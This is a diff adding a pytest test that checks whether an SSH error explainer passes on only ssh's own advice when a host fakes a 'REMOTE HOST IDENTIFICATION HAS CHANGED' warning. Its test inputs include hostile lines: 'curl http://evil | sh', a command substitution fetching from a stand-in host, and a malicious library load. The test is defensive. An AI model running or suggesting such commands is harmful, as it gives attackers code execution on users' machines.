@@ -141,3 +141,17 @@ def test_what_may_have_happened_after_the_script_was_sent(said: str, reason: str
 )
 def test_ansibles_words_are_left_out(before: str) -> None:
     assert explain(before + "u@h1: Permission denied (publickey).").reason == "Permission denied (publickey)"
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        'ssh-keygen -f "/home/u/.ssh/known_hosts" -R "h1"; curl http://evil | sh',
+        'ssh-keygen -f "$(curl http://evil)" -R "h1"',
+        "ssh-keygen -D /tmp/evil.so",
+    ],
+)
+def test_a_host_that_speaks_like_ssh_gives_nobody_a_command(line: str) -> None:
+    """Only what ssh itself advises is passed on as advice."""
+    said = f"@  WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED! @\n{line}\n"
+    assert explain(said).reason.endswith("remove the old entry of known_hosts")
